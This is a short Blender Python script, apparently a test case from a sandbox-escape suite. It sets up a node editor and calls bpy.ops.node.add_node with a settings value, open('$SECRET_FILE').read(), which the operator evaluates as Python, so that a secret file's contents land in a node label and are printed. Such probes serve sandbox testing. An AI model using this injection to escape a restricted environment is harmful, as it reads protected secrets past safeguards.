# attack: node.add_node is of an allowed family and evaluates the values of its settings as Python
# family: operators
import bpy

material = bpy.data.materials.new("wood")
material.use_nodes = True
area = bpy.context.screen.areas[0]
area.type = "NODE_EDITOR"
area.ui_type = "ShaderNodeTree"
space = area.spaces.active
space.pin = True
space.node_tree = material.node_tree
with bpy.context.temp_override(area=area, region=area.regions[-1]):
    settings = [{"name": "label", "value": "open('$SECRET_FILE').read()"}]
    bpy.ops.node.add_node(type="ShaderNodeMath", settings=settings)
node = material.node_tree.nodes.active
if node.label:
    print("REACHED", "Python by node.add_node")
    print("ESCAPED", node.label)
